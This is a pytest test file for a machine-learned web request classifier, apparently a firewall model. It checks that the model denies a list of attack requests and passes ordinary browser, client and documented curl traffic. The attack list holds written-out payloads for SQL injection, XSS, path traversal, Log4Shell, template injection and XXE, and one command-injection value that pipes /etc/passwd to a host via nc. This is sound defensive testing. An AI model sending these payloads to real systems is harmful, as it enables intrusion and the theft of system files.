"""The shipped weights of FieldClassifier: what they deny, and what they must let pass."""

import contextlib
import re
import shlex
import subprocess
import threading
from collections.abc import Callable
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import numpy as np
import pytest
import torch

import webtorch.detect
from fields import row
from nginx import ROOT
from webtorch.client import Client
from webtorch.detect import FieldClassifier

Request = tuple[bytes, bytes, tuple[tuple[bytes, bytes], ...], bytes]

AGENT = (b"User-Agent", b"Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0")
FORM = (b"Content-Type", b"application/x-www-form-urlencoded")
JSON = (b"Content-Type", b"application/json")


@pytest.fixture(scope="module")
def shipped() -> FieldClassifier:
    return FieldClassifier.pretrained()


def score(shipped, library, request) -> float:
    method, target, headers, body = request
    numbers, windows = row(library, method, target, headers, body)
    with torch.no_grad():
        found = shipped(torch.tensor([numbers], dtype=torch.int32), torch.tensor([windows]))
    return float(found[0])


ATTACKS = [
    (b"GET", b"/?id=1%27+or+1%3D1--", (), b""),
    (b"GET", b"/?q=%3Cscript%3Ealert(1)%3C/script%3E", (AGENT,), b""),
    (b"GET", b"/files?name=../../../../etc/passwd", (AGENT,), b""),
    (b"GET", b"/files/%252e%252e/%252e%252e/etc/passwd", (), b""),
    (b"POST", b"/", (AGENT, FORM), b"name=x&pass=' union select password from users--"),
    (b"POST", b"/api", (JSON,), b'{"user": {"name": "x; cat /etc/passwd | nc 10.0.0.1 99"}}'),
    (b"POST", b"/api", (JSON,), rb'{"a": "\u003cimg src=x onerror=alert(1)\u003e"}'),
    (b"GET", b"/", (AGENT, (b"Cookie", b"lang=en; theme=' or sleep(5)-- ")), b""),
    (b"GET", b"/", ((b"User-Agent", b"${jndi:ldap://x.example.com/a}"),), b""),
    (b"POST", b"/render", (FORM,), b"name={{7*7}}{{config.items()}}"),
    (
        b"POST",
        b"/soap",
        ((b"Content-Type", b"text/xml"),),
        b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
    ),
    (b"POST", b"/", (FORM,), b"a=" + b"x+" * 7000 + b"' union select password from users--"),
]

NORMAL = [
    (b"GET", b"/", (), b""),
    (b"GET", b"/articles/2024/05/why-nginx.html?page=2&sort=date", (AGENT,), b""),
    (b"GET", b"/search?q=o%27neill+%26+sons", (AGENT,), b""),
    (b"GET", b"/app.css?v=17", (AGENT, (b"Referer", b"https://example.com/a?b=c")), b""),
    (b"POST", b"/login", (AGENT, FORM), b"user=maria.lopez@example.org&pass=Tr0ub4dor%26%243"),
    (b"POST", b"/api/chat", (JSON,), b'{"model": "mistral"}'),
    (
        b"POST",
        b"/comments",
        (AGENT, JSON),
        b'{"text": "It\'s fine (really) - see #12; don\'t select all of them!"}',
    ),
    (
        b"POST",
        b"/graphql",
        (JSON,),
        b'{"query": "query Q($id: ID!) { user(id: $id) { name } }", "variables": {"id": "7"}}',
    ),
    (
        b"POST",
        b"/soap",
        ((b"Content-Type", b"text/xml; charset=utf-8"),),
        b'<?xml version="1.0"?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/">'
        b"<s:Body><GetPrice><Item>Apples</Item></GetPrice></s:Body></s:Envelope>",
    ),
]


def test_shipped_weights_are_small():
    path = Path(webtorch.detect.__file__).with_name("fields.safetensors")
    assert path.stat().st_size < (8 << 20)


def test_shipped_weights_deny_attacks(shipped, library):
    missed = [each for each in ATTACKS if score(shipped, library, each) < 0.5]
    assert not missed


def test_shipped_weights_let_normal_requests_pass(shipped, library):
    denied = [each for each in NORMAL if score(shipped, library, each) >= 0.5]
    assert not denied


def test_rehearsal_keeps_what_is_common(shipped, library):
    """A label changes the score of its request, and those of others little, as in examples/."""
    own = FieldClassifier.pretrained()
    assert float(own.rehearsal().detach()) < 0.2
    request = (b"GET", b"/?motto=carpe+diem%3B+noctem", (AGENT,), b"")
    labelled, other = (
        [torch.tensor([each]) for each in row(library, *each[:3])]
        for each in (request, (b"GET", b"/other?page=7", (AGENT,)))
    )
    optimizer = torch.optim.Adagrad([own.table], lr=0.01, eps=0.01)
    for _ in range(500):
        if score(own, library, request) > 0.5:
            break
        optimizer.zero_grad()
        loss = own.loss(labelled[0].int(), labelled[1], torch.ones(1))
        loss = loss + own.loss(other[0].int(), other[1], torch.zeros(1))
        (loss + own.rehearsal()).backward()
        optimizer.step()
    assert score(own, library, request) > 0.5
    assert not [each for each in NORMAL if score(own, library, each) >= 0.5]
    assert not [each for each in ATTACKS if score(own, library, each) < 0.5]


# --- requests of clients ---


class Recorder(BaseHTTPRequestHandler):
    """Records requests, and answers that there is nothing."""

    protocol_version = "HTTP/1.1"
    seen: list[Request]

    def handle_one(self) -> None:
        body = b""
        if self.headers.get("Transfer-Encoding") == "chunked":
            while size := int(self.rfile.readline().split(b";")[0], 16):
                body += self.rfile.read(size)
                self.rfile.readline()
            self.rfile.readline()
        body += self.rfile.read(int(self.headers.get("Content-Length", 0)))
        headers = tuple((name.encode(), value.encode()) for name, value in self.headers.items())
        self.seen.append((self.command.encode(), self.path.encode(), headers, body))
        self.send_response(404)
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_GET = do_HEAD = do_POST = do_OPTIONS = do_PUT = do_DELETE = handle_one

    def log_message(self, *_: object) -> None:
        """Be silent."""


@pytest.fixture
def recorded():
    """Return what sends requests to a server at an address, and the requests that it got."""

    class Own(Recorder):
        seen: list[Request] = []  # noqa: RUF012

    with ThreadingHTTPServer(("127.0.0.1", 0), Own) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()

        def record(send: Callable[[str], object]) -> list[Request]:
            Own.seen.clear()
            with contextlib.suppress(Exception):  # there is no such function
                send(f"127.0.0.1:{server.server_port}")
            return list(Own.seen)

        yield record
        server.shutdown()
        thread.join()


def with_webtorch(**options) -> Callable[[str], object]:
    def send(address: str) -> object:
        with Client(f"http://{address}", **options) as client:
            x = np.linspace(-1, 1, 24, dtype=np.float32).reshape(4, 6)
            for arrays in ({"x": x}, {"x": x, "mask": np.ones(4, np.int32)}):
                with contextlib.suppress(Exception):
                    client.infer("v1/output", **arrays)
            return client.infer("v1/output", x)

    return send


def with_triton(binary: bool) -> Callable[[str], object]:
    def send(address: str) -> object:
        http = pytest.importorskip("tritonclient.http")
        client = http.InferenceServerClient(address)
        numbers = http.InferInput("x", [2, 3], "FP32")
        numbers.set_data_from_numpy(np.ones((2, 3), np.float32), binary_data=binary)
        words = http.InferInput("text", [2], "BYTES")
        words.set_data_from_numpy(np.array([b"red shoes", b"it's"], object), binary_data=binary)
        for call in (client.is_server_live, client.get_server_metadata):
            with contextlib.suppress(Exception):
                call()
        output = http.InferRequestedOutput("y", binary_data=binary)
        return client.infer("xor", [numbers, words], outputs=[output])

    return send


@pytest.mark.parametrize(
    "send",
    [with_webtorch(), with_webtorch(format="json"), with_triton(False), with_triton(True)],
    ids=["webtorch", "webtorch json", "triton", "triton binary"],
)
def test_requests_of_clients_pass(send, recorded, shipped, library):
    requests = recorded(send)
    assert requests
    assert not [each for each in requests if score(shipped, library, each) >= 0.5]


def commands() -> list[str]:
    """Return the lines of curl in the documentation."""
    found = []
    for path in [ROOT / "README.md", *sorted((ROOT / "docs").glob("*.md"))]:
        for block in re.findall(r"```sh\n(.*?)```", path.read_text(), re.DOTALL):
            lines = block.replace("\\\n", " ").splitlines()
            found += [each for each in lines if each.startswith("curl ")]
    return found


def test_commands_of_the_documentation_pass(recorded, shipped, library):
    attacks, denied = 0, []
    for command in commands():
        words = shlex.split(command, comments=True)
        if any("@" in each for each in words):
            continue  # of a file
        at = next(i for i, each in enumerate(words) if each.startswith("http://"))

        def send(address: str, words: list[str] = words, at: int = at) -> None:
            words[at] = re.sub("http://[^/]*", f"http://{address}", words[at])
            subprocess.run([*words, "-s", "-m", "10"], capture_output=True, check=True)

        requests = recorded(send)
        assert requests, command
        wrong = [each for each in requests if score(shipped, library, each) >= 0.5]
        if "or+1%3D1" in command:
            attacks += len(wrong)
        else:
            denied += wrong
    assert not denied
    assert attacks >= 1
